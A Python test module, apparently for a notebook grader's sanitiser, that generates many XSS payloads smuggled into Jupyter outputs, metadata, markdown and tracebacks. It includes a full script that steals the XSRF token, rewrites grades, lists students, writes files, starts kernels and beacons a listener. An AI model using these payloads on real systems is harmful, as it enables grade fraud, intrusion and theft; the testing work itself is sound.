"""What a student may try on the browser of whoever looks at the work: a notebook full of it, in families.

Each attack, if it works, adds its name to `taken` in the page, or asks a listener for an address with its name in it.
"""

import base64
import html
import json
import struct
import zlib

from tests.notebooks import answers, filled

NAME = "N"  # where an attack's name goes


def picture(width: int = 1) -> str:
    """A real PNG, grey, one pixel high."""

    def part(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compress(b"\0" + bytes(width))
    parts = part(b"IHDR", struct.pack(">IIBBBBB", width, 1, 8, 0, 0, 0, 0)) + part(b"IDAT", rows) + part(b"IEND", b"")
    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + parts).decode()


class Attacks:
    """All attacks, for one listener.

    Args:
        listener: its address.
    """

    def __init__(self, listener: str) -> None:
        self.listener, self.displays, self.texts, self.attachments = listener, {}, {}, {}
        self._metadata()
        self._html()
        self._markdown()
        self._others()

    def __len__(self) -> int:
        return len(self.displays) + len(self.texts) + len(RAISES)

    def js(self, name: str) -> str:
        """A script without quotes, blanks or angle brackets."""
        code = f"window.taken=(window.taken||'')+' {name}';new Image().src='{self.listener}/{name}'"
        return f"eval(String.fromCharCode({','.join(map(str, map(ord, code)))}))"

    def show(self, name: str, data: dict, metadata: dict | None = None) -> None:
        """A display with some data and metadata."""
        self.displays[name] = (data, metadata or {})

    def html(self, name: str, text: str, metadata: dict | None = None) -> None:
        """A display of HTML; JS and URL in it stand for a script and for the listener's address."""
        text = text.replace("JS", self.js(name)).replace("URL", f"{self.listener}/{name}")
        self.show(name, {"text/html": text, "text/plain": name}, metadata)

    def markdown(self, name: str, text: str, attachments: dict | None = None) -> None:
        """Markdown, both as a cell and as a display; here the script is spelt out, as links need it."""
        text = text.replace("JS", self.js(name)).replace("URL", f"{self.listener}/{name}")
        self.texts[name], self.attachments[name] = text, attachments
        self.show(f"shown-{name}", {"text/markdown": text, "text/plain": name})

    def _metadata(self) -> None:
        for kind in ("image/png", "image/jpeg"):
            for key in ("width", "height", "alt", "unconfined"):
                name = f"{kind[6:]}-{key}"
                for variant, value in (
                    ("bare", "1 onerror=JS"),
                    ("quoted", '1" onerror="JS'),
                    ("tag", '"><img src=x onerror=JS>'),
                ):
                    value = value.replace("JS", self.js(f"{name}-{variant}"))
                    self.show(f"{name}-{variant}", {kind: "AAAA"}, {kind: {key: value}})
        loads = f"1 onload={self.js('real-png')}"
        self.show("real-png", {"image/png": picture()}, {"image/png": {"width": loads, "height": loads}})
        self.show(
            "list-width", {"image/png": picture()}, {"image/png": {"width": [f"1 onload={self.js('list-width')}"]}}
        )
        files = {"image/png": f"x onerror={self.js('filenames')}", "image/svg+xml": f"{self.listener}/filenames"}
        self.show("filenames", {"image/png": "AAAA"}, {"filenames": files})
        self.show("png-data", {"image/png": f'x" onerror="{self.js("png-data")}'})
        self.html("isolated", "<script>JS</script>", {"text/html": {"isolated": True}})
        self.html("isolated-image", "<img src=URL>", {"text/html": {"isolated": True}, "isolated": True})

    def _html(self) -> None:
        for name, text in HTML.items():
            self.html(name, text)

    def _markdown(self) -> None:
        for name, text in MARKDOWN.items():
            self.markdown(name, text)
        svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{self.js('attached-svg')}'><image href='{self.listener}/svg'/></svg>"
        coded = base64.b64encode(svg.encode()).decode()
        self.markdown("attached-svg", "![a](attachment:a.svg)", {"a.svg": {"image/svg+xml": coded}})
        page = base64.b64encode(f"<script>{self.js('attached-html')}</script>".encode()).decode()
        self.markdown("attached-html", "![a](attachment:a.png) [b](attachment:a.png)", {"a.png": {"text/html": page}})
        broken = {"a.png": {f'image/png" onerror="{self.js("attached-kind")}': "AAAA", "image/png": '" onerror="x'}}
        self.markdown("attached-kind", "![a](attachment:a.png)", broken)
        self.markdown("attached-none", "![a](attachment:none.png)\n\nstill there")

    def _others(self) -> None:
        for name, (kind, text) in OTHERS.items():
            text = text.replace("JS", self.js(name)).replace("URL", f"{self.listener}/{name}")
            self.show(name, {kind: json.loads(text) if kind.endswith("json") else text})

    # ---------------------------------------------------------------------------------------- as a hand-in

    def cell(self) -> dict:
        """A code cell that displays everything when it runs."""
        source = f"import json\nfrom IPython.display import publish_display_data\n# attacks\nfor name, pair in json.loads({json.dumps(self.displays)!r}).items():\n    publish_display_data(*pair)\n"
        return code("attacks", source)

    def raises(self) -> list[dict]:
        """Cells that end in errors, and one that prints, with names and texts that attack."""
        return [
            code(name, source.replace("JS", self.js(name)).replace("URL", f"{self.listener}/{name}"))
            for name, source in RAISES.items()
        ]

    def text_cells(self) -> list[dict]:
        """Markdown cells, and raw ones."""
        cells = []
        for name, text in self.texts.items():
            cell = {"cell_type": "markdown", "id": f"md-{name}"[:64], "metadata": {}, "source": text}
            if self.attachments[name]:
                cell["attachments"] = self.attachments[name]
            cells.append(cell)
        raw = f"<img src=x onerror={self.js('raw-cell')}><script>{self.js('raw-cell')}</script>"
        for kind in ("text/html", "", "text/markdown"):
            cells.append(
                {"cell_type": "raw", "id": f"raw-{len(kind)}", "metadata": {"raw_mimetype": kind}, "source": raw}
            )
        return cells

    def stored(self) -> list[dict]:
        """Outputs as they would stand in a graded notebook if nothing had looked at them."""
        shown = [
            {"output_type": "display_data", "data": data, "metadata": metadata}
            for data, metadata in self.displays.values()
        ]
        bad = f"<img src=x onerror={self.js('stored-error')}>"
        error = {
            "output_type": "error",
            "ename": bad,
            "evalue": bad,
            "traceback": [bad, f"\x1b]8;;{self.listener}/osc\x07{bad}\x1b]8;;\x07"],
        }
        printed = {
            "output_type": "stream",
            "name": "stdout",
            "text": bad + f"\x1b[31m{bad}\x1b[0m\x1b[38;2;1;2;3m{bad}",
        }
        result = {"output_type": "execute_result", "data": {"text/plain": bad}, "metadata": {}, "execution_count": bad}
        return [*shown, error, printed, result, {**printed, "name": bad}]

    def hand_in(self, lesson: str) -> dict:
        """A notebook with right answers, and all of this."""
        nb = filled(lesson, answers(lesson), whole=False)
        nb["cells"] += [self.cell(), *self.raises(), *self.text_cells()]
        return nb

    def spoil(self, nb: dict) -> None:
        """Put into a graded notebook what customs would never have let in: outputs, metadata, names, widgets."""
        bad = f'"><img src=x onerror={self.js("spoilt")}>'
        nb["cells"] += self.text_cells()
        for number, cell in enumerate(nb["cells"][-8:]):
            cell["metadata"] |= {
                "tags": [bad, "x full-credit"],
                "alt": bad,
                "nbgrader": {
                    "grade": True,
                    "solution": True,
                    "grade_id": bad,
                    "points": bad,
                    "schema_version": 3,
                    "locked": False,
                    "task": False,
                },
            }
            cell["id"] = f"{bad}{number}"
        shown = code("spoilt", "pass")
        nb["cells"].append(shown | {"outputs": self.stored(), "execution_count": bad, "metadata": {"tags": [bad]}})
        state = {"state": {"x": {"model_name": bad, "state": {"value": bad}}}, "version_major": 2, "version_minor": 0}
        nb["metadata"] |= {
            "widgets": {"application/vnd.jupyter.widget-state+json": state},
            "title": bad,
            "language_info": {"name": bad, "pygments_lexer": bad},
        }


def code(name: str, source: str) -> dict:
    """A code cell."""
    return {"cell_type": "code", "id": name, "metadata": {}, "execution_count": None, "outputs": [], "source": source}


HTML = {
    "script": "<script>JS</script><b>plain</b>",
    "script-src": "<script src=URL></script>",
    "onerror": "<img src=x onerror=JS>",
    "onerror-slash": "<img/src=x/onerror=JS>",
    "ontoggle": "<details open ontoggle=JS>x</details>",
    "autofocus": "<input autofocus onfocus=JS><a href=#x autofocus tabindex=0 onfocus=JS>x</a>",
    "svg-onload": "<svg onload=JS><animate onbegin=JS attributeName=x dur=1s></svg>",
    "svg-script": "<svg><script>JS</script><a href=javascript:JS><text y=9>x</text></a><image href=URL /></svg>",
    "math": "<math><mi xlink:href=javascript:JS href=javascript:JS>x</mi><mtext><table><mglyph><style><img src=x onerror=JS>",
    "iframe": "<iframe src=javascript:JS></iframe><iframe srcdoc='<script>JS</script>'></iframe><iframe src=URL></iframe>",
    "object": "<object data=URL></object><embed src=URL><object data='data:text/html,<script>JS</script>'></object>",
    "meta": "<meta http-equiv=refresh content='0;url=URL'>",
    "base": "<base href=URL/>",
    "link": "<link rel=stylesheet href=URL><link rel=prefetch href=URL><link rel=import href=URL>",
    "style": "<style>@import url(URL); body { background: url(URL) }</style><p style='background:url(URL)'>x",
    "style-url": "<div style='border-left: url(URL); padding: 1em; list-style-image:url(URL)'>x</div>",
    "cover": "<div style='position:fixed;top:0;left:0;width:9999px;height:9999px'><a href=URL>x</a></div>",
    "form": "<form action=URL><button formaction=javascript:JS>x</button><input type=image src=URL></form>",
    "media": "<video poster=URL src=URL autoplay onerror=JS></video><audio src=URL autoplay><picture><source srcset=URL><img></picture>",
    "srcset": "<img src=URL srcset='URL 2x' lowsrc=URL dynsrc=URL><table background=URL><tr><td background=URL>x</table>",
    "ping": "<a href=#x ping=URL>x</a>",
    "mutation": "<noscript><p title='</noscript><img src=x onerror=JS>'></noscript><p title=\"<img src=x onerror=JS>\">",
    "comment": "<!--><img src=x onerror=JS>--><!--!><img src=x onerror=JS>--!><![CDATA[<img src=x onerror=JS>]]>",
    "textarea": "<textarea></div><img src=x onerror=JS></textarea></title></textarea></style><img src=x onerror=JS>",
    "template": "<template><img src=x onerror=JS></template><xmp><img src=x onerror=JS></xmp><plaintext><img src=x onerror=JS>",
    "close": "</div></div></div></body></html><img src=x onerror=JS><script>JS</script>",
    "data-link": "<a data-link=x data-toggle=collapse data-target='<img src=x onerror=JS>' href='#'>x</a>",
    "gadget": "<div class='nbgrader_cell'><b class='full-credit' id='check_relu' name='formgrader'>x</b></div>",
    "entities": "<a href='&#x6A;avascript&colon;JS'>x</a><a href='java\tscript:JS'>x</a><a href='\x01javascript:JS'>x</a>",
    "vbscript": "<a href='vbscript:x'>x</a><a href='data:text/html,<script>JS</script>'>x</a><a href='blob:x'>x</a>",
    "null": "<scr\0ipt>JS</scr\0ipt><img src=x on\0error=JS><\x00script>JS</script>",
    "huge": "<b>" * 2000 + "<img src=x onerror=JS>",
}

MARKDOWN = {
    "md-link": "[x](javascript:JS)",
    "md-entity": "[x](java&#115;cript:JS) [y](&#106;&#97;vascript&colon;JS)",
    "md-case": "[x](JaVaScRiPt:JS) [y]( javascript:JS) [z](<java\tscript:JS>)",
    "md-control": "[x](<\x01javascript:JS>) [y](java\u200bscript:JS) [z](javascript&#x09;:JS)",
    "md-twice": "[x](java&amp;#115;cript:JS) [y](javascript&amp;colon;JS)",
    "md-percent": "[x](javascript%3AJS) [y](%6aavascript:JS)",
    "md-auto": "<javascript:JS> <data:text/html,JS> <vbscript:x>",
    "md-reference": "[x][r] ![y][r]\n\n[r]: javascript:JS 'title\" onmouseover=\"JS'",
    "md-data": "[x](data:text/html;base64,PHNjcmlwdD4=) [y](vbscript:x) [z](file:///etc/passwd)",
    "md-image": "![x](URL) ![y](javascript:JS) ![z](URL 'a\" onload=\"JS')",
    "md-title": '[x](https://numpy.org \'a" onmouseover="JS" x="\') <https://a.org/"onmouseover=JS>',
    "md-html": "<img src=x onerror=JS>\n\n<script>JS</script>\n\ntext <b onmouseover=JS>b</b>",
    "md-split": "<img src=x\n\nonerror=JS>\n\n<scr<script>ipt>JS</scr</script>ipt>",
    "md-code": '```html" onmouseover="JS\n<script>JS</script>\n```\n\n`<img src=x onerror=JS>`',
    "md-mermaid": '```mermaid\ngraph TD; A-->B; click A href "javascript:JS"\n</pre><img src=x onerror=JS>\n```',
    "md-heading": "# <img src=x onerror=JS> check_relu\n\n# check_relu\n\n## relu-comment",
    "md-table": "| a |\n|---|\n| <img src=x onerror=JS> [x](javascript:JS) |",
    "md-latex": "$\\href{javascript:JS}{x}$ $$\\unicode{<img src=x onerror=JS>}$$ $\\style{background:url(URL)}{x}$",
    "md-latex-html": "$<img src=x onerror=JS>$ \\begin{align}<script>JS</script>\\end{align} $\\require{html}\\cssId{check_relu}{x}$",
    "md-relative": "[x](//127.0.0.1/x) [y](/formgrader/?path=/tmp) [z](http:/formgrader/) [w](\\\\\\\\host\\x) [v](x.ipynb)",
    "md-server": "[x](/formgrader/gradebook/%22;JS;%22/x)",
    "md-footnote": "a[^1]\n\n[^1]: <img src=x onerror=JS>",
    "md-details": "<details open ontoggle=JS><summary>s</summary>[x](javascript:JS)</details>",
    "md-deep": ">" * 1500 + " [x](javascript:JS) <img src=x onerror=JS>",
}

OTHERS = {
    "javascript": ("application/javascript", "JS"),
    "latex": ("text/latex", "$\\href{javascript:JS}{x}$<img src=x onerror=JS><script>JS</script>"),
    "svg": (
        "image/svg+xml",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='JS'><script>JS</script><image href='URL'/></svg>",
    ),
    "mermaid": ("text/vnd.mermaid", "graph TD; A[<img src=x onerror=JS>]"),
    "plain": (
        "text/plain",
        "<img src=x onerror=JS>\x1b[31m<script>JS</script>\x1b[0m\x1b]8;;javascript:JS\x07x\x1b]8;;\x07",
    ),
    "pdf": ("application/pdf", "JS"),
    "jpeg": ("image/jpeg", "x onerror=JS"),
    "gif": ("image/gif", 'x" onerror="JS'),
    "widget": (
        "application/vnd.jupyter.widget-view+json",
        '{"model_id": "</script><img src=x onerror=JS>", "version_major": 2}',
    ),
    "vega": (
        "application/vnd.vegalite.v5+json",
        '{"data": {"url": "URL"}, "mark": "bar", "usermeta": {"embedOptions": {"loader": "URL"}}}',
    ),
    "geojson": ("application/geo+json", '{"type": "Point", "coordinates": [0, 0], "url": "URL"}'),
    "kind": ('text/html; x="><img src=x onerror=JS>', "<img src=x onerror=JS>"),
}

RAISES = {
    "error-name": "raise type('<img src=x onerror=JS>', (Exception,), {})('<script>JS</script>')",
    "error-text": "raise ValueError('\\x1b]8;;javascript:JS\\x07x\\x1b]8;;\\x07 \\x1b[31m<img src=x onerror=JS>\\x1b[0m')",
    "error-traceback": "class E(Exception):\n    def _render_traceback_(self):\n        return ['<img src=x onerror=JS>', '\\x1b]8;;URL\\x1b\\\\\\\\x\\x1b]8;;\\x1b\\\\\\\\']\nraise E()",
    "error-source": "'</pre></div><img src=x onerror=JS>'.none",
    "printed": "print('<img src=x onerror=JS>', '\\x1b]8;;javascript:JS\\x07x\\x1b]8;;\\x07', '\\x1b[38;5;9m<script>JS</script>', '\\x9b31m')",
    "function-name": "def f(x): raise KeyError('<b onclick=JS>')\nf.__name__ = '<img src=x onerror=JS>'\nf(1)",
    "pager": "get_ipython().payload_manager.write_payload({'source': 'page', 'data': {'text/html': '<img src=x onerror=JS>', 'text/plain': 'x'}, 'start': 0})",
}


def taken_over(listener: str) -> str:
    """The script of a hand-in that takes what it can reach from formgrader's page: grades, names, files, a kernel."""
    return """
(async () => {
  const token = (document.cookie.match(/_xsrf=([^;]+)/) || [])[1];
  const headers = {"X-XSRFToken": token, "X-CSRFToken": token, "Content-Type": "application/json"};
  const get = async (path) => { try { return await (await fetch(path)).json() } catch { return [] } };
  const put = async (path, method, body) => {
    try { return (await fetch(path, {method, headers, body: JSON.stringify(body)})).status } catch { return 0 }
  };
  const said = [];
  const id = location.pathname.split("/")[3];
  for (const grade of await get("/formgrader/api/grades?submission_id=" + id)) {
    said.push("grade " + await put("/formgrader/api/grade/" + grade.id, "PUT", {...grade, manual_score: 99}));
  }
  said.push("students " + (await get("/formgrader/api/students")).length);
  const old = performance.getEntriesByType("navigation").concat((window.navigation ? navigation.entries() : []))
    .map((entry) => entry.url || entry.name).join(" ").match(/token=(\\w+)/);
  if (old) headers.Authorization = "token " + old[1];
  said.push("file " + await put("/api/contents/taken.txt", "PUT", {type: "file", format: "text", content: "x"}));
  said.push("kernel " + await put("/api/kernels", "POST", {name: "python3"}));
  window.taken = said.join(", ");
  document.title = "taken: " + window.taken;
  new Image().src = "LISTENER/taken-over";
})()
""".replace("LISTENER", listener)


def proof(listener: str) -> dict:
    """The cell of the first proof: a picture whose width holds a script, without a quote or a blank."""
    script = ",".join(str(ord(c)) for c in taken_over(listener))
    metadata = {"image/png": {"width": f"1 onerror=eval(String.fromCharCode({script}))"}}
    return code(
        "proof",
        f"from IPython.display import display\ndisplay({{'image/png': 'AAAA'}}, raw=True, metadata={metadata!r})",
    )


def unescaped(text: str) -> str:
    """Text as a browser reads an address: entities resolved, blanks and control characters gone, in small letters."""
    for _ in range(3):
        text = html.unescape(text)
    return "".join(c for c in text if c.isprintable() and not c.isspace()).lower()
